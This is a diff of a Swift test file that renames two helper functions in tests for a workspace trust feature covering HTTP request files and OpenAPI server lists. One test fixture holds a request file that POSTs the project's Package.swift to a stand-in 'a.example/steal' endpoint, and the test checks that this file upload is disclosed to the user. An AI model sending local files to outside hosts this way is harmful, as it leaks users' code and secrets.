@@ -51,8 +51,8 @@ import Workspace
                 body: Array("POST http://a.example/steal\n\n< /proc/self/cwd/Package.swift\n".utf8))
         }
         let description = try await load(.url(URI("http://a.example/h.http")), transport).get()
-        let needs = description.needs(resolve: WorkspaceTrust.real)
-        #expect(needs.map(\.text) == ["sends the file \(WorkspaceTrust.real("Package.swift"))"])
+        let needs = description.needs(resolve: WorkspaceTrust.resolvedPath)
+        #expect(needs.map(\.text) == ["sends the file \(WorkspaceTrust.resolvedPath("Package.swift"))"])
     }
 
     /// The user has agreed to the servers of the workspace, and not to what one of them redirects to.
@@ -194,7 +194,7 @@ import Workspace
     @Test func severalServersAreNumberedAndUnusableOnesLeftOut() throws {
         let text =
             #"{"openapi": "3.1.0", "info": {"title": "T"}, "servers": [{"url": "/v1"}, {"url": "https://a.example"}, {"url": "http://b.example/x"}, {"url": "ws://c"}], "paths": {}}"#
-        let pool = ServicePool(try APIDescription.read(Array(text.utf8), source: "t", base: nil))
+        let pool = ServicePool(try APIDescription.parse(Array(text.utf8), source: "t", base: nil))
         #expect(pool.services.map(\.name) == ["api-1", "api-2"])
         #expect(pool.services.map(\.baseURL.revealed) == ["https://a.example", "http://b.example/x"])
     }
